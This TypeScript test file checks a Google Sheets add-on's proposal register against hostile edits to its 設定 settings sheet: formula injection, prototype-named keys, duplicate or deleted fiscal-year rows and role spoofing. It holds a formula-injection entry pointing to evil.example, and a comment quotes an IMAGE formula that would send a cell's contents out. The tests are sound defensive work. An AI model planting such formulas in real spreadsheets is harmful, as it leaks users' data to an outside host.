// Attacks on 設定 as the one source of lists (#18 item 1) and of the 年度 the add-on started (#20):
// a PT member may edit 設定's lists, so what they put there (a formula-looking entry, an entry
// named like a JavaScript property, nothing at all) must not break the checks, the cells or 集計;
// and a duplicate or deleted row must not change what the add-on obeys.
import { describe, expect, it } from 'vitest';
import { changeRows } from '../../local/runtime/people';
import type { Runtime } from '../../local/runtime/runtime';
import { call, cellAt, cellRef, edit, OWNER, ok, PT, records, sampleRuntime } from '../helpers';

const DAY = 24 * 3600_000;
const version = (rt: Runtime, id: string) =>
  ok(call<{ version: string }>(rt, 'apiGetProposal', { id })).version;
const settingsHeader = (rt: Runtime) => Object.keys(records(rt, '設定')[0]!);
const col = (rt: Runtime, header: string) => String.fromCharCode(65 + settingsHeader(rt).indexOf(header));
const settingRow = (rt: Runtime, key: string) => records(rt, '設定').findIndex((r) => r.項目 === key) + 2;
const settingRef = (rt: Runtime, key: string) => `設定!${col(rt, '値')}${settingRow(rt, key)}`;
const setting = (rt: Runtime, key: string) => records(rt, '設定').find((r) => r.項目 === key)!.値!;
const proposal = (rt: Runtime, id: string) => records(rt, '課題一覧').find((r) => r.ID === id)!;
const newUserProposal = (rt: Runtime, extra: Record<string, unknown> = {}) =>
  call<{ proposal: { id: string } }>(rt, 'apiCreateProposal', {
    kind: 'ユーザーの困りごと',
    perspective: '市民の目線',
    category: setting(rt, '場面・分類(ユーザー)').split('、')[0],
    painPoint: '待ち時間が長い',
    title: '事前予約',
    solution: '',
    ptContact: PT,
    departments: ['市民課'],
    ...extra,
  });

describe('what a PT member puts in 設定’s lists', () => {
  // Was a bug (fixed): 課題一覧's list columns (目線, 場面・分類, 終了理由, 実施状況) are not among the
  // plain-text ('@') columns the writer formats (sheets/table.ts textColumns takes 'text' and 'display'
  // kinds only), and their values now come from 設定, which any PT member may edit. An entry
  // '=HYPERLINK(…)' (or '=IMAGE("https://evil.example/?"&B2)', which would send a cell out when
  // shown) picked in the sidebar is written as a formula: the cell shows #ERROR! or the formula's
  // result, and the next read takes that as the proposal's 目線. The same holds for a department
  // answering a progress check with such a 実施状況. Fix: write 'list' columns as text too
  // (sheets/table.ts, where textColumns are chosen; setup's column formats).
  it('a formula-looking entry is a value like any other: saved as text, never a formula', () => {
    const rt = sampleRuntime();
    // (No comma: 設定's lists split on 、 , ; and line breaks, so an entry cannot hold one.)
    const evil = '=HYPERLINK("https://evil.example/")';
    edit(rt, settingRef(rt, '目線'), `市民の目線、${evil}`, PT);
    expect(setting(rt, '目線')).toContain(evil);
    const id = ok(newUserProposal(rt, { perspective: evil })).proposal.id;
    const ref = cellRef(rt, '課題一覧', '目線', id);
    expect(cellAt(rt, ref).f).toBeUndefined();
    expect(cellAt(rt, ref)).toMatchObject({ v: evil });
    expect(proposal(rt, id).目線).toBe(evil);
  });

  it('a list left with only separators refuses every value with a message saying 設定 has no list', () => {
    const rt = sampleRuntime();
    edit(rt, settingRef(rt, '目線'), '、、', PT);
    const r = newUserProposal(rt);
    expect(r).toMatchObject({ ok: false, fieldErrors: { perspective: expect.stringContaining('設定') } });
    // An emptied cell falls back to the defaults: nothing is refused for want of a list.
    edit(rt, settingRef(rt, '目線'), '', PT);
    ok(newUserProposal(rt));
  });

  // Was a bug (fixed): 集計 counts a value no longer in 設定 with `(counts[value] ?? 0) + 1` on a plain object
  // (domain/summary.ts): a value named like an Object.prototype member ("constructor", "toString")
  // reads the inherited function, so the count becomes the text "function Object() { [native code] }1".
  // A PT member can add such an entry, use it and remove it. Fix: Object.create(null)/Map for the
  // count tables in domain/summary.ts (categories, ended, implementation).
  it('a value named like a JavaScript property, used then removed from 設定, is counted as 1 in 集計', () => {
    const rt = sampleRuntime();
    const list = setting(rt, '場面・分類(ユーザー)');
    edit(rt, settingRef(rt, '場面・分類(ユーザー)'), `${list}、constructor`, PT);
    ok(
      call(rt, 'apiUpdateProposal', {
        id: 'R7-U01',
        version: version(rt, 'R7-U01'),
        fields: { category: 'constructor' },
      }),
    );
    edit(rt, settingRef(rt, '場面・分類(ユーザー)'), list, PT);
    expect(proposal(rt, 'R7-U01')['場面・分類']).toBe('constructor');
    const summary = ok(
      call<{ categories: { user: Record<string, unknown> } }>(rt, 'apiRebuildSummary', {}, OWNER),
    );
    expect(summary.categories.user.constructor).toBe(1);
  });

  // Was a bug (fixed): a typed 種別 is checked only against the 場面・分類 lists (hand-edits.ts applyProposalCell):
  // once 設定's two 場面・分類 lists share an entry, R7-U01 typed to 職員の困りごと is accepted and
  // keeps its 目線 (which only ユーザーの困りごと has, domain/choices) and its U in the ID. The
  // sidebar cannot change 種別 at all. Fix: refuse a typed 種別 change (or require 目線 blank for 職員).
  it('a 種別 typed to 職員の困りごと never leaves a 目線 on a staff proposal', () => {
    const rt = sampleRuntime();
    const category = proposal(rt, 'R7-U01')['場面・分類']!;
    edit(rt, settingRef(rt, '場面・分類(職員)'), `${setting(rt, '場面・分類(職員)')}、${category}`, PT);
    edit(rt, cellRef(rt, '課題一覧', '種別', 'R7-U01'), '職員の困りごと');
    const p = proposal(rt, 'R7-U01');
    expect(p.種別 === 'ユーザーの困りごと' || p.目線 === '').toBe(true);
  });

  it('a value added, used and removed stays on its proposal; the row’s other cells can still be typed', () => {
    const rt = sampleRuntime();
    const list = setting(rt, '目線');
    edit(rt, settingRef(rt, '目線'), `${list}、高齢者の目線`, PT);
    ok(
      call(rt, 'apiUpdateProposal', {
        id: 'R7-U01',
        version: version(rt, 'R7-U01'),
        fields: { perspective: '高齢者の目線' },
      }),
    );
    edit(rt, settingRef(rt, '目線'), list, PT);
    // Typing the title of that row, or saving its title from the sidebar, is not refused for 目線.
    const title = cellRef(rt, '課題一覧', '課題(提案)名', 'R7-U01');
    edit(rt, title, '新しい名前');
    expect(cellAt(rt, title)).toMatchObject({ v: '新しい名前' });
    expect(cellAt(rt, title).note ?? '').toBe('');
    ok(
      call(rt, 'apiUpdateProposal', {
        id: 'R7-U01',
        version: version(rt, 'R7-U01'),
        fields: { title: 'もう一度', perspective: '高齢者の目線' },
      }),
    );
    expect(proposal(rt, 'R7-U01')).toMatchObject({ 目線: '高齢者の目線', '課題(提案)名': 'もう一度' });
    // The removed value typed anew elsewhere is put back.
    const other = cellRef(rt, '課題一覧', '目線', 'R7-U02');
    edit(rt, other, '高齢者の目線');
    expect(cellAt(rt, other).v).toBe('市民の目線');
  });

  it('a very long list (3,000 entries) is taken, offered in the dropdown and checked quickly', () => {
    const rt = sampleRuntime();
    const many = Array.from({ length: 3000 }, (_, i) => `分類${i}`);
    edit(rt, settingRef(rt, '場面・分類(ユーザー)'), many.join('、'), PT);
    ok(newUserProposal(rt, { category: '分類2999' }));
    expect(newUserProposal(rt, { category: '分類3000' })).toMatchObject({ ok: false });
    const dropdown = cellAt(rt, cellRef(rt, '課題一覧', '場面・分類', 'R7-U01')).validation?.values ?? [];
    expect(dropdown).toContain('分類2999');
  });
});

describe('a duplicate or deleted 設定 row', () => {
  /** 2026-03-05, the secretariat has started 令和8年度 (設定's 年度 is then the add-on's). */
  function startedYear() {
    const rt = sampleRuntime();
    rt.advance(100 * DAY);
    ok(call(rt, 'apiStartFiscalYear', { fiscalYear: 2026 }, OWNER));
    expect(setting(rt, '年度')).toBe('令和8年度');
    return rt;
  }
  const fiscalYear = (rt: Runtime) =>
    ok(call<{ settings: { fiscalYear: number } }>(rt, 'apiSettings', undefined)).settings.fiscalYear;

  // Was a bug (fixed): guardFiscalYear (server/settings-guard.ts) checks the first 年度 row only, while
  // readSettings (sheets/settings.ts) keeps the last row of a key: a PT member adding a second
  // 年度 row at the bottom switches the register's 年度 (IDs, 集計, progress checks) with no put-back.
  // Fix: read 設定 one way (first row of a key, or refuse duplicates) and guard what readSettings obeys.
  it('a second 年度 row added at the bottom by a PT member does not switch the 年度', () => {
    const rt = startedYear();
    const row = records(rt, '設定').length + 2;
    edit(rt, `設定!${col(rt, '項目')}${row}`, '年度', PT);
    edit(rt, `設定!${col(rt, '値')}${row}`, '令和7年度', PT);
    expect(fiscalYear(rt)).toBe(2026);
    expect(ok(newUserProposal(rt)).proposal.id).toMatch(/^R8-/);
  });

  // Was a bug (fixed): deleting 設定's 年度 row fires only onChange, which does not look at 設定 (server/changes.ts),
  // and guardFiscalYear skips a missing row; the register then falls back to the calendar's 年度
  // (令和7年度 in March 2026), though the secretariat started 令和8年度.
  it('deleting the 年度 row does not switch the 年度 either', () => {
    const rt = startedYear();
    const row = settingRow(rt, '年度');
    changeRows(rt, '設定', row, row, 'REMOVE_ROW', { user: PT });
    expect(fiscalYear(rt)).toBe(2026);
  });

  it('a second 事務局 row or a PTメンバー row typed by a PT member gives no one a role', () => {
    const rt = sampleRuntime();
    const row = records(rt, '設定').length + 2;
    edit(rt, `設定!${col(rt, '項目')}${row}`, '事務局', PT);
    edit(rt, `設定!${col(rt, '値')}${row}`, PT, PT);
    edit(rt, settingRef(rt, 'PTメンバー'), `${setting(rt, 'PTメンバー')}、someone@example.jp`, PT);
    const settings = ok(call<{ role: string }>(rt, 'apiSettings', undefined));
    expect(settings.role).toBe('PT');
    expect(call(rt, 'apiSettings', undefined, 'someone@example.jp')).toMatchObject({
      ok: false,
      code: 'forbidden',
    });
    expect(
      call(rt, 'apiSetDepartmentStage', {
        id: 'R7-U01',
        version: version(rt, 'R7-U01'),
        department: '広報室',
        stage: '①',
        reason: '事務局のつもり',
      }),
    ).toMatchObject({ ok: false, code: 'forbidden' });
  });
});
